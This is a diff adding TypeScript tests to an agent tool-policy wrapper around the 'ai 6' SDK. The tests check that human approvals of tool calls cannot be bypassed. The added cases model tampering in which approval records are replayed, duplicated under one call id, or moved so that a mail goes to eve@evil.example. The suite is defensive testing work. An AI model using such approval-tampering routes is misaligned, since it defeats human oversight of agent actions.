@@ -54,6 +54,16 @@ function makeTools(counters: Record<string, number>) {
 
 const prompt: ModelMessage[] = [{ role: 'user', content: 'Mail the report to Ada.' }];
 
+/** A copy of response messages whose tool calls a client edited to mail Eve (what the human saw is gone). */
+function toEve(messages: readonly ModelMessage[]): ModelMessage[] {
+  const edited = structuredClone(messages) as ModelMessage[];
+  for (const message of edited) {
+    if (message.role !== 'assistant' || typeof message.content === 'string') continue;
+    for (const part of message.content) if (part.type === 'tool-call') part.input = { to: 'eve@evil.example' };
+  }
+  return edited;
+}
+
 describe('ai 6', () => {
   it('runs an allowed tool, never runs a blocked one, and the model sees the denial', async () => {
     const counters: Record<string, number> = {};
@@ -153,6 +163,160 @@ describe('ai 6', () => {
     expect((lastToolOutput(model.doGenerateCalls[0]!.prompt) as { value: string }).value).toMatch(/agentpolicy: cost \$0\.20 exceeds the remaining budget \$0\.10/);
     expect(toolDecisions(session.report().decisions).at(-1)).toMatchObject({ decision: 'deny', rule: { section: 'budget' }, action: { name: 'send_email' } });
     expect(session.spent).toBe(0.9);
+  });
+
+  describe('a resume the SDK makes for another call with the approved call id', () => {
+    // ai 6 resumes the last tool call with the approved request's id: with two calls of one step under one id, that
+    // is not the call the human saw. The policy decides it on its own, and ai 6 runs it only while needsApproval
+    // keeps the approval valid.
+    const twoCallStream = (calls: Array<[string, unknown]>) =>
+      [
+        { type: 'stream-start', warnings: [] },
+        ...calls.map(([toolName, input]) => ({ type: 'tool-call', toolCallId: 'c3', toolName, input: JSON.stringify(input) })),
+        { type: 'finish', finishReason: { unified: 'tool-calls', raw: 'tool_calls' }, usage: usage(10, 5) },
+      ] as never[];
+
+    for (const streamed of [false, true]) {
+      it(`${streamed ? 'streamText' : 'generateText'}: an allowed call resumed from an approval that does not count for it runs and is charged; nothing stays held`, async () => {
+        const counters: Record<string, number> = {};
+        const session = makePolicy({ budget: 1, approvalRules: [{ tool: 'send_email' }] }).session();
+        const tools = wrapTools(makeTools(counters), session, { costs: { search: 0.15 } });
+        // The first turn streams: ai 6 runs the allowed `search` there (it holds no call back by id when streaming).
+        const stream = streamText({
+          model: new MockLanguageModelV3({ doStream: [{ stream: convertArrayToReadableStream(twoCallStream([['send_email', { to: 'ada@example.com' }], ['search', { query: 'q' }]])) }] }),
+          tools,
+          messages: prompt,
+        });
+        const first = { content: await stream.content, response: await stream.response };
+        const request = first.content.find((part) => part.type === 'tool-approval-request')!;
+        expect(request.toolCall.toolName).toBe('send_email');
+        expect(counters).toEqual({ search: 1 });
+        const history: ModelMessage[] = [...prompt, ...first.response.messages, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved: true }] }];
+
+        if (streamed) {
+          const model = new MockLanguageModelV3({ doStream: [{ stream: convertArrayToReadableStream(textStreamParts(['ok']) as never[]) }] });
+          const result = streamText({ model, tools, messages: history });
+          await result.consumeStream();
+          await result.response;
+        } else await generateText({ model: mockModel([textResult('ok')]), tools, messages: history });
+
+        // The SDK resumed `search` (the last call with id c3 in the history), not the email the human approved: the
+        // approval does not count for it, the policy allows it on its own, so it runs again (as ai 7 runs it) and is
+        // charged again. Before, its allow was left holding $0.15 for a run that never came, charged at the end.
+        expect(counters).toEqual({ search: 2 });
+        expect(session.report()).toMatchObject({ spent: 0.3, reserved: 0 });
+        expect(session.end().spent).toBeCloseTo(0.3, 9);
+      });
+    }
+  });
+
+  it('a used approval replayed in the last message: the allowed call the SDK resumes from it runs and is charged, nothing stays held', async () => {
+    const counters: Record<string, number> = {};
+    const session = makePolicy({ budget: 1, approvalRules: [{ tool: 'send_email' }] }).session();
+    const tools = wrapTools(makeTools(counters), session, { costs: { search: 0.15 } });
+    const first = await generateText({ model: mockModel([toolCallResult('send_email', 'call-1', { to: 'ada@example.com' })]), tools, messages: prompt });
+    const request = first.content.find((part) => part.type === 'tool-approval-request')!;
+    const approve: ModelMessage = { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved: true }] };
+    let history: ModelMessage[] = [...prompt, ...first.response.messages, approve];
+    // The approved mail runs; the model then searches under the same call id (a provider numbering calls per turn).
+    const second = await generateText({ model: mockModel([toolCallResult('search', 'call-1', { query: 'q' }), textResult('done')]), tools, stopWhen: stepCountIs(3), messages: history });
+    expect(counters).toEqual({ send_email: 1, search: 1 });
+    // The client sends the used approval again: ai 6 resumes the last call with id call-1, the search.
+    history = [...history, ...second.response.messages, approve];
+    await generateText({ model: mockModel([textResult('again')]), tools, messages: history });
+
+    expect(counters).toEqual({ send_email: 1, search: 2 });
+    expect(session.report()).toMatchObject({ spent: 0.3, reserved: 0 });
+  });
+
+  it('two calls of one step under one id, both asked: the approval of the request the human saw runs neither the other call nor a repeat of it', async () => {
+    const counters: Record<string, number> = {};
+    const session = makePolicy({ approvalRules: [{ tool: 'send_email' }] }).session();
+    const tools = wrapTools(makeTools(counters), session);
+    const both = v3({
+      content: ['ada@example.com', 'eve@evil.example'].map((to) => ({ type: 'tool-call', toolCallId: 'c3', toolName: 'send_email', input: JSON.stringify({ to }) })),
+      finishReason: { unified: 'tool-calls', raw: 'tool_calls' },
+      usage: usage(10, 5),
+      warnings: [],
+    });
+    const first = await generateText({ model: mockModel([both]), tools, messages: prompt });
+    // The human is shown the last call with the id (Eve); ai 6 writes both calls of the id into the history with the
+    // first one's input (Ada), and resumes that one.
+    const request = first.content.find((part) => part.type === 'tool-approval-request')!;
+    expect(request.toolCall.input).toEqual({ to: 'eve@evil.example' });
+    const history: ModelMessage[] = [...prompt, ...first.response.messages, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved: true }] }];
+    // The resume, then the model mails Ada again under the same id.
+    const again = await generateText({ model: mockModel([toolCallResult('send_email', 'c3', { to: 'ada@example.com' }), textResult('x')]), tools, stopWhen: stepCountIs(3), messages: history });
+
+    expect(counters.send_email).toBeUndefined();
+    expect(again.content.find((part) => part.type === 'tool-approval-request')?.toolCall.input).toEqual({ to: 'ada@example.com' });
+    expect(toolDecisions(session.report().decisions).filter((d) => d.decision === 'allow')).toHaveLength(0);
+  });
+
+  it('streamText asks about two calls of one step under one id: an answer to one, moved onto the other in the history, approves nothing', async () => {
+    const counters: Record<string, number> = {};
+    const session = makePolicy({ approvalRules: [{ tool: 'send_email' }] }).session();
+    const tools = wrapTools(makeTools(counters), session);
+    const parts = [
+      { type: 'stream-start', warnings: [] },
+      ...['ada@example.com', 'eve@evil.example'].map((to) => ({ type: 'tool-call', toolCallId: 'c3', toolName: 'send_email', input: JSON.stringify({ to }) })),
+      { type: 'finish', finishReason: { unified: 'tool-calls', raw: 'tool_calls' }, usage: usage(10, 5) },
+    ] as never[];
+    const stream = streamText({ model: new MockLanguageModelV3({ doStream: [{ stream: convertArrayToReadableStream(parts) }] }), tools, messages: prompt });
+    const requests = (await stream.content).filter((part) => part.type === 'tool-approval-request');
+    expect(requests.map((part) => part.toolCall.input)).toEqual([{ to: 'ada@example.com' }, { to: 'eve@evil.example' }]);
+    // The human approves the mail to Ada and leaves Eve's unanswered; the client moves the call Ada's request sits
+    // beside onto Eve's address.
+    const messages = toEve((await stream.response).messages);
+    const history: ModelMessage[] = [...prompt, ...messages, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: requests[0]!.approvalId, approved: true }] }];
+    await generateText({ model: mockModel([toolCallResult('send_email', 'c3', { to: 'eve@evil.example' }), textResult('x')]), tools, stopWhen: stepCountIs(3), messages: history });
+
+    expect(counters.send_email).toBeUndefined();
+    expect(toolDecisions(session.report().decisions).filter((d) => d.decision === 'allow')).toHaveLength(0);
+  });
+
+  it('an answer given before a request was asked does not approve it: a moved answer replayed for the newer request runs nothing', async () => {
+    const counters: Record<string, number> = {};
+    const session = makePolicy({ approvalRules: [{ tool: 'send_email' }] }).session();
+    const tools = wrapTools(makeTools(counters), session);
+    const first = await generateText({ model: mockModel([toolCallResult('send_email', 'c2', { to: 'ada@example.com' })]), tools, messages: prompt });
+    const request = first.content.find((part) => part.type === 'tool-approval-request')!;
+    // The human approves the mail to Ada; the client moves the call onto Eve's address.
+    const messages = toEve(first.response.messages);
+    const approve: ModelMessage = { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved: true }] };
+    let history: ModelMessage[] = [...prompt, ...messages, approve];
+    // Nothing runs on the resume; the model mails Eve under the same id and is asked about; the client sends the old
+    // answer again instead of the human's.
+    const second = await generateText({ model: mockModel([toolCallResult('send_email', 'c2', { to: 'eve@evil.example' }), textResult('x')]), tools, stopWhen: stepCountIs(3), messages: history });
+    expect(second.content.find((part) => part.type === 'tool-approval-request')?.toolCall.input).toEqual({ to: 'eve@evil.example' });
+    history = [...history, ...second.response.messages, approve];
+    await generateText({ model: mockModel([textResult('x')]), tools, messages: history });
+
+    expect(counters.send_email).toBeUndefined();
+    expect(toolDecisions(session.report().decisions).filter((d) => d.decision === 'allow')).toHaveLength(0);
+  });
+
+  it('an approval moved in the history onto the input of a request the human rejected does not approve it', async () => {
+    const counters: Record<string, number> = {};
+    const session = makePolicy({ approvalRules: [{ tool: 'send_email' }] }).session();
+    const tools = wrapTools(makeTools(counters), session);
+    const ask = async (messages: ModelMessage[], to: string) => {
+      const result = await generateText({ model: mockModel([toolCallResult('send_email', 'call-1', { to })]), tools, messages });
+      return { result, request: result.content.find((part) => part.type === 'tool-approval-request')! };
+    };
+    const answer = (approvalId: string, approved: boolean): ModelMessage => ({ role: 'tool', content: [{ type: 'tool-approval-response', approvalId, approved }] });
+
+    // The human rejects the mail to Eve, then approves the mail to Ada (asked under the same call id).
+    const eve = await ask(prompt, 'eve@evil.example');
+    let history: ModelMessage[] = [...prompt, ...eve.result.response.messages, answer(eve.request.approvalId, false)];
+    const ada = await ask(history, 'ada@example.com');
+    // The client moves the approval onto Eve's address: the call beside the approved request now names Eve.
+    const edited = toEve(ada.result.response.messages);
+    history = [...history, ...edited, answer(ada.request.approvalId, true)];
+    await generateText({ model: mockModel([textResult('x')]), tools, messages: history });
+
+    expect(counters.send_email).toBeUndefined();
+    expect(toolDecisions(session.report().decisions).filter((d) => d.decision === 'allow')).toHaveLength(0);
   });
 
   it("onDeny: 'stop' rejects generateText with the policy error", async () => {
